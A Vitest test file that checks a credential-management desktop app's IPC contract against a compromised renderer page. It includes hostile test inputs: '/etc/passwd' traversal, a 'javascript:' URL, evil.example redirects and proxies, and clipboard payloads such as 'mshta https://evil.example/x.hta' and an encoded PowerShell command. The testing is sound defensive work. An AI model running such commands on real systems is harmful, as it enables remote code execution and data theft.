import { describe, expect, it } from 'vitest';
import { requests, type Channel, type Input } from '../../preload/contract.ts';
import { desk, draft, follow, type Desk } from './desk.ts';

const guid = '5b1e0f3a-1c2d-4e5f-8a9b-0c1d2e3f4a5b';

/** A list with a credential that is set up, as a page that was taken over would find it. */
async function filled(options: Parameters<typeof desk>[0] = {}) {
  const here = await desk(options);
  const seen = await here.setUp({ draft, certificate: null });
  const ended = seen.at(-1);
  if (ended?.kind !== 'ended') throw new Error('not set up');
  return { ...here, credential: ended.report.credential, thumbprint: ended.report.credential.certificate?.thumbprint ?? '' };
}

/** What of the practice tenant and of the keychain would be missed. */
const world = ({ here }: Pick<Desk, 'here'>) => JSON.stringify(here.server.world.state.tenants[0]?.applications);

describe('a page that was taken over, before a filled list', () => {
  it('gets no key, no path and no other format by naming what the contract does not have', async () => {
    const { raw, paths, credential } = await filled();
    paths.push('/nowhere/evil.pfx');
    const hostile: readonly (readonly [Channel, unknown])[] = [
      ['certificate:export', { id: credential.id, format: 'pfx', password: null, encryption: 'modern', path: '/tmp/evil.pfx' }],
      ['certificate:export', { id: '../../etc/passwd', format: 'cer', password: null, encryption: 'modern' }],
      ['certificate:export', { id: credential.id, format: 'html', password: null, encryption: 'modern' }],
      ['certificate:read', { name: 'x.cer', content: 'A'.repeat(2_000_000) }],
      ['pfx:read', { file: '/etc/passwd', password: 'x', credential: credential.id }],
      ['pem:read', { file: '/etc/passwd', password: 'x', credential: credential.id }],
      ['certificate:export', { id: credential.id, format: 'pem', key: '/tmp/evil.key', password: null, encryption: 'modern' }],
      ['portal:open', { id: credential.id, page: 'javascript:alert(1)' }],
      ['portal:open', { id: credential.id, page: 'overview', address: 'https://evil.example/' }],
      ['keys:forget', { keys: [{ credentialId: '../../Other', thumbprint: 'x' }] }],
      ['keys:forget', { keys: Array.from({ length: 10_001 }, () => ({ credentialId: credential.id, thumbprint: 'A'.repeat(40) })) }],
      ['clipboard:copy', { text: 'x'.repeat(20_001) }],
      ['settings:write', { proxy: 'http://evil.example' }],
    ];
    for (const [channel, input] of hostile)
      expect(await raw(channel, input), `${channel} ${JSON.stringify(input).slice(0, 100)}`).toMatchObject({
        ok: false,
        fault: { code: 'window.request-malformed' },
      });
    expect(paths).toHaveLength(1); // no dialog was opened
  });

  it('reaches nothing by names that it guesses', async () => {
    const { request, credential } = await filled();
    const guessed = [
      request('pfx:read', { file: guid, password: 'x', credential: credential.id, key: null }),
      request('pem:read', { file: guid, password: 'x', credential: credential.id }),
      request('pem:choose-key', { file: guid, credential: null }),
      request('generated-password:copy', { password: guid }),
      request('generated-password:show', { password: credential.id }),
      request('track:add', { file: guid }),
      request('run:decide', { run: credential.id, apply: true, hash: 'x', accepted: [] }),
      request('run:copy-address', { run: credential.id }),
      request('rotation:certificate', { run: guid, certificate: credential.id }),
      request('diagnostics:save', null),
    ];
    for (const answer of guessed) expect(await answer).toMatchObject({ ok: false, fault: { code: 'window.run-unknown' } });
    for (const channel of ['certificate:export', 'portal:open'] as const) {
      const input = channel === 'portal:open' ? { page: 'overview' } : { format: 'cer', password: null, encryption: 'modern' };
      // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- one of the two
      expect(await request(channel, { id: guid, ...input } as Input<typeof channel>)).toMatchObject({ ok: false });
    }
  });

  it('deletes no registration without the name, and no key that is needed', async () => {
    const here = await filled();
    const { request, credential, thumbprint } = here;
    const before = world(here);
    expect(await request('removal:begin', { id: credential.id, confirmName: '' })).toMatchObject({ ok: false });
    expect(await request('removal:begin', { id: credential.id, confirmName: 'CONTOSO' })).toMatchObject({ ok: false });
    expect(await request('keys:forget', { keys: [{ credentialId: credential.id, thumbprint }] })).toMatchObject({
      ok: true,
      value: { forgotten: 0, kept: 1 },
    });
    expect(await request('handover:confirm', { id: credential.id, thumbprint: 'A'.repeat(40) })).toMatchObject({ ok: false });
    expect(world(here)).toBe(before);
    expect(await request('credential:verify', { id: credential.id })).toMatchObject({ ok: true, value: { proof: { ok: true } } });
  });

  it('writes to no stranger’s sign-in client without a dialog that only a person answers', async () => {
    const { request, asked } = await filled();
    const current = await request('settings:read', null);
    if (!current.ok) throw new Error('no settings');
    const changed = { ...current.value, signInClientId: guid };
    expect(await request('settings:write', changed)).toMatchObject({ ok: false, fault: { code: 'window.not-confirmed' } });
    expect(asked).toEqual([{ message: expect.stringContaining(guid), detail: expect.stringContaining('Microsoft Graph') }]);
    expect(await request('settings:read', null)).toEqual(current);
    // Everything else is nobody's business.
    expect(await request('settings:write', { ...current.value, theme: 'dark' })).toMatchObject({ ok: true });
    expect(asked).toHaveLength(1);
  });

  it('changes it where the person confirms', async () => {
    const { request, asked } = await filled({ confirms: true });
    const current = await request('settings:read', null);
    if (!current.ok) throw new Error('no settings');
    expect(await request('settings:write', { ...current.value, signInClientId: guid })).toMatchObject({ ok: true });
    expect(await request('settings:write', { ...current.value, signInClientId: '' })).toMatchObject({ ok: true });
    expect(asked.map(({ message }) => message)).toEqual([
      expect.stringContaining(guid),
      expect.stringContaining('Microsoft Graph Command Line Tools'),
    ]);
  });

  it.each(['powershell -enc SQBFAFgA\n', 'mshta https://evil.example/x.hta', 'cmd /c start \\\\evil.example\\x'])(
    'copies %j only where the person says so',
    async (text) => {
      const { request, copied, asked } = await filled();
      expect(await request('clipboard:copy', { text })).toMatchObject({ ok: false, fault: { code: 'window.not-confirmed' } });
      expect(asked[0]?.detail).toContain(text.trim());
      expect(copied).toEqual([]);
    },
  );

  it('copies what main has said, in any form of it', async () => {
    const { request, copied, asked, credential, thumbprint } = await filled();
    const texts = [
      thumbprint,
      thumbprint.toLowerCase().replaceAll(/(..)(?!$)/g, '$1 '),
      `${credential.name}\n${credential.tenantId} · ${credential.clientId}\n24 Nov 2026, 10:30`,
    ];
    for (const text of texts) expect(await request('clipboard:copy', { text }), text).toEqual({ ok: true, value: null });
    expect(copied).toEqual(texts);
    expect(asked).toEqual([]);
  });
});

describe('a plan', () => {
  it('is applied only by its own hash, and only with findings of its own', async () => {
    const here = await desk();
    const { request } = here;
    const refused: unknown[] = [];
    const seen = await follow(
      here,
      () => request('setup:begin', { draft, certificate: null }),
      true,
      (step, run) => {
        if (step.kind === 'stays') void request('setup:leave', { run });
        if (step.kind !== 'preview') return;
        const { hash } = step;
        for (const decision of [{}, { hash: '' }, { hash: `${hash}0` }, { hash, accepted: ['leftover-key-credential:1'] }])
          void request('run:decide', { run, apply: true, accepted: [], ...decision }).then((outcome) => refused.push(outcome));
      },
    );
    expect(refused).toHaveLength(4);
    for (const outcome of refused) expect(outcome).toMatchObject({ ok: false, fault: { code: 'window.plan-unknown' } });
    expect(seen.at(-1)).toMatchObject({ kind: 'ended' });
  });

  it('is decided upon once', async () => {
    const here = await desk();
    const outcomes: Promise<{ readonly ok: boolean }>[] = [];
    const seen = await follow(
      here,
      () => here.request('setup:begin', { draft, certificate: null }),
      false,
      (step, run) => {
        if (step.kind !== 'preview') return;
        const { hash } = step;
        for (const apply of [false, true]) outcomes.push(here.request('run:decide', { run, apply, hash, accepted: [] }));
      },
    );
    // Declined, and then applied after all: the second word is refused, and nothing is written.
    expect(await Promise.all(outcomes)).toMatchObject([{ ok: true }, { ok: false, fault: { code: 'window.plan-unknown' } }]);
    expect(seen.at(-1)).toMatchObject({ kind: 'failed', fault: { code: 'input.declined' } });
    expect(here.here.server.world.state.tenants[0]?.applications).toEqual([]);
  });

  it('has a hash that tells it from any other', async () => {
    const hashes = await Promise.all(
      ['8462', '8463'].map(async (port) => {
        const here = await desk();
        const seen = await follow(here, () => here.request('setup:begin', { draft: { ...draft, port }, certificate: null }), false);
        return seen.flatMap((step) => (step.kind === 'preview' ? [step.hash] : []));
      }),
    );
    expect(hashes.flat()).toHaveLength(2);
    expect(new Set(hashes.flat()).size).toBe(2);
  });
});

it('every request of the contract refuses what is not its own input, with valid ids in it', async () => {
  const { raw, credential } = await filled();
  for (const channel of Object.keys(requests)) {
    for (const input of [{ id: credential.id, more: 1 }, { run: credential.id, id: credential.id }, [credential.id], credential.id]) {
      const outcome = await raw(channel, input);
      expect(outcome, `${channel} ${JSON.stringify(input)}`).toMatchObject({ ok: false, fault: { code: 'window.request-malformed' } });
    }
    expect(await raw(channel, null, false)).toMatchObject({ ok: false, fault: { code: 'window.sender-refused' } });
  }
});
